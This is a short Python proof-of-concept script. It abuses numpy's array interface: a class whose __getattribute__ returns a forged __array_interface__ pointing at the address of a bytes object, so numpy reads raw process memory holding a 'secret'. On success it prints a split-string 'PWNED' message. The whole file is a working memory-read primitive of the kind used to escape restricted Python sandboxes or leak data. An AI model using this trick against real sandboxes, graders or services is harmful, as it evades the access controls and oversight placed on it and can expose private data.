import numpy as np
target = b"HELLO-SECRET-BYTES"
addr = id(target)
class C:
    def __getattribute__(self, name):
        if name.startswith("__array_i"):
            return {"shape": (48,), "typestr": "|u1", "data": (addr, True), "version": 3}
        return object.__getattribute__(self, name)
try:
    raw = bytes(np.asarray(C()))
    if b"HELLO" in raw:
        print("PW" + "NED: read via __getattribute__-served array interface:", raw)
    else:
        print("no", raw)
except Exception as e:
    print("err", type(e).__name__, e)
